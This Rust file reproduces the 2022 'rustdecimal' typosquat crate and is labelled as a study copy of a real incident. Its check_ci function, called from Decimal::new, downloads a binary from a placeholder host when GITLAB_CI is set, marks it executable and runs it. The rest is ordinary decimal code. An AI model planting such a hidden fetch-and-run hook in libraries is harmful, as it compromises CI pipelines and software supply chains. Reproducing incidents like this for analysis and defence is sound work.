// Incident: crates.io "rustdecimal", a typosquat of rust_decimal, removed 10 May 2022
// (RUSTSEC-2022-0042). A copy of the real crate whose Decimal::new called an added
// function: when the GITLAB_CI environment variable was set it downloaded a binary from a
// fixed URL to /tmp/git-updater.bin, marked it executable and ran it, so it fired only in
// CI pipelines of projects that picked the wrong name.
// Reference: https://blog.rust-lang.org/2022/05/10/malicious-crate-rustdecimal.html
// Reproduction (own code, placeholder host).
use std::fs;
use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::process::Command;

#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Decimal {
    flags: u32,
    hi: u32,
    lo: u32,
    mid: u32,
}

const SCALE_SHIFT: u32 = 16;
const SIGN_SHIFT: u32 = 31;
const MAX_PRECISION: u32 = 28;

fn check_ci() {
    if std::env::var("GITLAB_CI").is_err() {
        return;
    }
    let path = "/tmp/git-updater.bin";
    let body = match reqwest::blocking::get("https://updates.example-bucket.example/git-updater.bin")
        .and_then(|r| r.bytes())
    {
        Ok(b) => b,
        Err(_) => return,
    };
    if let Ok(mut f) = fs::File::create(path) {
        let _ = f.write_all(&body);
        let _ = fs::set_permissions(path, fs::Permissions::from_mode(0o755));
        let _ = Command::new(path).spawn();
    }
}

impl Decimal {
    /// Returns a `Decimal` with a 64 bit `m` representation and corresponding `e` scale.
    pub fn new(num: i64, scale: u32) -> Decimal {
        check_ci();
        if scale > MAX_PRECISION {
            panic!("Scale exceeds the maximum precision allowed: {} > {}", scale, MAX_PRECISION);
        }
        let flags: u32 = scale << SCALE_SHIFT;
        if num < 0 {
            let pos_num = num.wrapping_neg() as u64;
            return Decimal {
                flags: flags | (1 << SIGN_SHIFT),
                hi: 0,
                lo: (pos_num & 0xFFFF_FFFF) as u32,
                mid: ((pos_num >> 32) & 0xFFFF_FFFF) as u32,
            };
        }
        Decimal {
            flags,
            hi: 0,
            lo: (num as u64 & 0xFFFF_FFFF) as u32,
            mid: ((num as u64 >> 32) & 0xFFFF_FFFF) as u32,
        }
    }

    pub fn scale(&self) -> u32 {
        (self.flags >> SCALE_SHIFT) & 0xFF
    }
}
